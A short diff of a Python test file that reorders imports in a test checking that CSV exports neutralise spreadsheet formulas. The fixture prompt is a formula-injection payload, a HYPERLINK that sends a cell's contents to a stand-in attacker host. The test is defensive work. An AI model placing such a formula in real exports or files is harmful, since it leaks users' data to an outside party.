@@ -137,11 +137,11 @@ def test_an_empty_or_short_secret_is_never_used(tmp_path, monkeypatch):
 # --- 16. formulas in CSV exports ------------------------------------------------------------------------
 def test_csv_exports_neutralise_formulas_and_sweep_results_round_trip(bundled, tmp_path):
     from steer_ui.cli import main
+    from steer_ui.engine.decode import run
     from steer_ui.engine.run_settings import RunSettings
     from steer_ui.experiments.questions import Question
     from steer_ui.experiments.sweep import SweepConfig, run_sweep
     from steer_ui.log.recorder import RunRecorder
-    from steer_ui.engine.decode import run
 
     store = Store(str(tmp_path / "log.sqlite"))
     prompt = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
